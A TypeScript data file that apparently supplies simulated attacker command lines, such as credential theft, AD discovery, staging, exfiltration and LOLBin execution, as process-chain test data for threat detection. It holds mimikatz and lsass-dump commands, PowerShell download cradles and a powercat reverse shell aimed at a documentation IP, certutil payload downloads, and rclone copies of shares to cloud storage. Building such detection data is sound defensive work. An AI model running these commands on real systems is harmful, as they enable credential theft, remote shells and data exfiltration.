import type { Chain } from './hp-chains.js';

const HOURLY = { hourly: true } as const;
const SYSTEM = { system: true } as const;
/** rclone renamed: its version info still names it. */
const RCLONE = {
  product: 'Rclone',
  original: 'rclone.exe',
  description: 'Rsync for cloud storage',
  company: 'https://rclone.org',
} as const;

/**
 * Hands-on-keyboard tooling as public reporting shows it: credential theft, AD discovery,
 * staging and exfiltration, LOLBin proxies for code, renamed tools, and the few that recur every
 * hour (beacon-driven downloads, scheduled scripts) so short look-backs see them.
 */
export const HP_TOOL_CHAINS: readonly Chain[] = [
  ['cmd.exe', 'cmd.exe', 'mimikatz.exe "privilege::debug" "sekurlsa::tickets /export" exit', {}],
  ['cmd.exe', 'cmd.exe', 'mimikatz.exe "kerberos::ptt C:\\Users\\Public\\t.kirbi" exit', {}],
  ['explorer.exe', 'cmd.exe', 'runas.exe /savecred /user:contoso\\admin "cmd.exe"', {}],
  ['explorer.exe', 'cmd.exe', 'psexec.exe \\\\10.0.0.12 -u admin -password * cmd.exe', {}],
  ['explorer.exe', 'cmd.exe', 'SOAPHound.exe --bhdump -c C:\\Temp\\cache.txt -o C:\\Temp\\out', {}],
  ['explorer.exe', 'cmd.exe', 'SOAPHound.exe --buildcache -c C:\\Temp\\cache.txt', {}],
  ['explorer.exe', 'cmd.exe', 'AdFind.exe -f "(objectcategory=person)" > ad_users.txt', {}],
  ['explorer.exe', 'cmd.exe', 'AdFind.exe -sc trustdmp > trustdmp.txt', {}],
  ['explorer.exe', 'cmd.exe', 'AdFind.exe -subnets -f (objectCategory=subnet) > subnets.txt', {}],
  ['explorer.exe', 'cmd.exe', 'AdFind.exe -gcb -sc trustdmp > trust.txt', {}],
  ['explorer.exe', 'cmd.exe', 'C:\\aaaa\\procdump64.exe -accepteula -ma lsass.exe C:\\aaaa\\l.dmp', {}],
  ['explorer.exe', 'cmd.exe', 'xcopy.exe C:\\Users\\ \\\\10.0.0.12\\C$\\Temp\\u\\ /S /E /C /Q /H \\', {}],
  ['explorer.exe', 'cmd.exe', '7z.exe a -mx9 C:\\ProgramData\\pst\\mail.7z C:\\ProgramData\\pst\\*.pst', {}],
  ['explorer.exe', 'cmd.exe', 'rar.exe a -hpS3cret! C:\\ProgramData\\data.rar C:\\Shares\\Finance', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'esentutl.exe /r V01 /l"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Windows\\WebCache" /s"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Windows\\WebCache" /d"C:\\Users\\Public\\AppData\\Local\\Microsoft\\Windows\\WebCache"',
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'reg query "HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Default"',
    {},
  ],
  ['explorer.exe', 'cmd.exe', 'certutil.exe -encode C:\\ProgramData\\p.exe C:\\ProgramData\\p.txt', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'powershell.exe -version 2 -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/p.ps1\')"',
    {},
  ],
  [
    'explorer.exe',
    'powershell.exe',
    'powershell.exe -c "Import-Module .\\powercat.ps1; powercat -c 198.51.100.23 -p 443 -e cmd" -f powercat.ps1',
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'powershell.exe -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.23/powercat.ps1\')" powercat.ps1',
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'powershell.exe -nop -c "Invoke-WebRequest -Uri http://198.51.100.23/upload -met POST -Body $env:COMPUTERNAME"',
    {},
  ],
  ['explorer.exe', 'cmd.exe', 'powershell.exe -nop -c "Get-MpPreference | Select ExclusionPath"', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'powershell.exe -ep bypass -command "New-MailboxExportRequest -Mailbox admin -FilePath \\\\10.0.0.12\\c$\\mail.pst"',
    SYSTEM,
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'powershell.exe -ep bypass -command "Get-MailboxExportRequest | Remove-MailboxExportRequest -Confirm:$false"',
    SYSTEM,
  ],
  ['explorer.exe', 'cmd.exe', 'msiexec.exe /fa C:\\windows\\installer\\1a2b3c.msi', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'schtasks.exe /run /tn "\\Microsoft\\Windows\\Windows Error Reporting\\QueueReporting"',
    {},
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'schtasks.exe /create /tn ecosetup /tr C:\\ProgramData\\ecosetup.exe /sc onlogon /rl highest',
    {},
  ],
  ['explorer.exe', 'cmd.exe', 'control.exe C:\\ProgramData\\a.cpl shell32.dll,Control_RunDLL', {}],
  ['explorer.exe', 'cmd.exe', 'rundll32.exe url.dll,FileProtocolHandler http://198.51.100.23/a.hta', {}],
  ['explorer.exe', 'cmd.exe', 'rundll32.exe %APPDATA%\\mss.dat",#1', {}],
  ['explorer.exe', 'cmd.exe', 'rundll32.exe C:\\ProgramData\\w.dll,#1 worker2 job3-1234', SYSTEM],
  ['explorer.exe', 'cmd.exe', 'regasm.exe /U C:\\ProgramData\\a.dll', {}],
  ['regasm.exe', 'regasm.exe /U C:\\ProgramData\\a.dll', 'cmd.exe /c whoami', {}],
  ['explorer.exe', 'MSBuild.exe C:\\ProgramData\\b.xml', 'userinit.exe', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'dism.exe /Mount-Wim /WimFile:C:\\ProgramData\\a.wim /index:1 /MountDir:C:\\ProgramData\\m /LogPath:NUL',
    {},
  ],
  ['explorer.exe', 'taskmgr.exe', 'powershell.exe -nop -c whoami', {}],
  ['explorer.exe', 'cmd.exe', 'C:\\ProgramData\\rc.exe copy C:\\Shares\\Finance mega:exfil', RCLONE],
  ['explorer.exe', 'cmd.exe', 'C:\\ProgramData\\svchost.exe copy C:\\Shares remote:x', RCLONE],
  [
    'explorer.exe',
    'cmd.exe',
    'wsl.exe -e /bin/bash -c "id"',
    {
      product: 'Microsoft® Windows® Operating System',
      original: 'wsl.exe',
      description: 'Windows Subsystem for Linux',
    },
  ],
  ['explorer.exe', 'cmd.exe', 'msiexec.exe /q /i http://Rw.tn/0x9ACDEF', {}],
  [
    'explorer.exe',
    'cmd.exe',
    'cmd.exe /c set path=%ProgramFiles(x86)%\\WinRAR;C:\\Program Files\\WinRAR; && cd /d %~dp0 & rar.exe e -o+ -r -inul*.rar',
    {},
  ],
  [
    'explorer.exe',
    'svchost.exe -k netsvcs -p -s Schedule',
    'powershell.exe -w hidden -ep bypass -File C:\\ProgramData\\u.ps1',
    { ...SYSTEM, ...HOURLY },
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'certutil.exe -urlcache -f http://198.51.100.23/c.exe C:\\ProgramData\\c.exe',
    HOURLY,
  ],
  [
    'explorer.exe',
    'cmd.exe',
    'certutil.exe -decode C:\\ProgramData\\cfg.txt C:\\ProgramData\\cfg.dll',
    HOURLY,
  ],
  // certutil copied under another name: the version info still says CertUtil.exe.
  [
    'explorer.exe',
    'cmd.exe',
    'C:\\ProgramData\\upd.exe -urlcache -split -f http://198.51.100.23/x.exe C:\\ProgramData\\x.exe',
    {
      hourly: true,
      original: 'CertUtil.exe',
      description: 'CertUtil.exe',
      company: 'Microsoft Corporation',
      product: 'Microsoft® Windows® Operating System',
    },
  ],
  ['svchost.exe', 'WerFault.exe -u -p 4242', 'rundll32.exe C:\\ProgramData\\w.dll,Start', HOURLY],
  ['explorer.exe', 'cmd.exe', 'runas.exe /user:contoso\\admin "cmd.exe /c whoami"', HOURLY],
];
